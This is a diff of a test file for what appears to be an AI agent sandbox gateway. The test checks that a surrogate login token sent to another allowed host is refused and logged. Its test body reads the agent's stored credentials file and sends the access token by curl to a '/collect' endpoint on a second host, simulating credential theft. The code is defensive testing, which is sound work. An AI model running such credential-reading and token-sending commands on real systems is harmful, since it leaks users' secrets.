@@ -113,7 +113,7 @@ beforeAll(async () => {
   const dockerfile = join(ws, '.agent-sandbox', 'Dockerfile')
   const caLine = ca.trim().replace(/\n/g, '\\n')
   writeFileSync(dockerfile, `${readFileSync(dockerfile, 'utf8')}\nRUN printf '%b' '${caLine}\\n' > /usr/local/share/ca-certificates/loginsit.crt && update-ca-certificates\n`)
-  writeFileSync(join(ws, '.agent-sandbox', 'config.json'), `${JSON.stringify({dockerNetwork: network, allowDomains: [OTHER], sharedAgentConfig: false, env: {AGENT_SANDBOX_GITHUB_META: '0'}}, null, 2)}\n`)
+  writeFileSync(join(ws, '.agent-sandbox', 'config.json'), `${JSON.stringify({dockerNetwork: network, allowDomains: [OTHER], httpRules: [{host: OTHER}], sharedAgentConfig: false, env: {AGENT_SANDBOX_GITHUB_META: '0'}}, null, 2)}\n`)
   await trustWorkspace(ws)
   must(await as('claude-init-config', ws, '--auth'), 'claude-init-config --auth')
   must(await as('codex-init-config', ws, '--auth'), 'codex-init-config --auth')
@@ -149,7 +149,7 @@ describe('agent logins through the gateway, with the real agents', () => {
     expect(auth.tokens.access_token).not.toBe(REAL.codexNewAccess)
   })
 
-  it('a surrogate sent to another allowed host is refused, and logged with the credential\'s name', async () => {
+  it('a surrogate sent to another allowed host the gateway inspects (it has a rule) is refused, and logged with the credential\'s name', async () => {
     const creds = JSON.parse((await as('exec', ws, '--', 'cat', '/home/node/.claude/.credentials.json')).stdout) as {claudeAiOauth: {accessToken: string}}
     const before = (await seen()).length
     const r = await as('exec', ws, '--', 'curl', '-sS', '--max-time', '20', '-o', '/dev/null', '-w', '%{http_code}', '-H', `Authorization: Bearer ${creds.claudeAiOauth.accessToken}`, `https://${OTHER}/collect`)
